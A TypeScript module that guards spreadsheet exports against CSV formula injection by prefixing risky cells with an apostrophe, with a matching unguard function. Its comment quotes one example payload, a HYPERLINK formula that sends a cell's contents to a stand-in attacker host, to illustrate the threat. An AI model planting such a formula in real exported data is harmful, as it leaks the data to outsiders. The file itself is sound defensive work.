/**
 * CSV formula injection (OWASP "CSV Injection", CWE-1236): Excel, LibreOffice and Google Sheets treat a
 * cell that starts with = + - @ (or with a tab or carriage return, which some of them strip first) as a
 * formula, so a name like `=HYPERLINK("https://evil.example/?"&A1)` typed by anyone would run in HR's
 * spreadsheet. Such a cell is written with a leading apostrophe, which spreadsheets take as "this is
 * text". The rule, precisely:
 *
 * - a cell is guarded when its first character is one of = + - @ TAB CR;
 * - except a plain negative number (-12, -0.5, -1,234.5): it cannot hold a formula, and spreadsheets
 *   must keep reading it as the number it is;
 * - a cell that already starts with apostrophes followed by a guarded cell gets one more apostrophe, so
 *   that `unguardFormula` gives back exactly what was exported (`'=x` → `''=x` → `'=x`).
 *
 * Nothing else in the text changes: `+81-3-1234-5678` becomes `'+81-3-1234-5678`, which spreadsheets
 * show as the phone number instead of computing 81−3−1234−5678 = −6834.
 */

const triggers = new Set(['=', '+', '-', '@', '\t', '\r']);
const plainNegativeNumber = /^-(?:\d+|\d{1,3}(?:,\d{3})+)(?:\.\d+)?$/;

/** True when a spreadsheet could read the text as a formula, so it must be written guarded. */
export function needsFormulaGuard(text: string): boolean {
  let start = 0;
  while (text[start] === "'") start += 1;
  const first = text[start];
  if (first === undefined || !triggers.has(first)) return false;
  return !plainNegativeNumber.test(text.slice(start));
}

/** The text as it goes into a spreadsheet file: guarded with a leading apostrophe when needed. */
export function guardFormula(text: string): string {
  return needsFormulaGuard(text) ? `'${text}` : text;
}

/** The inverse, for files that come back (an export edited and imported again). */
export function unguardFormula(text: string): string {
  return text.startsWith("'") && needsFormulaGuard(text.slice(1)) ? text.slice(1) : text;
}
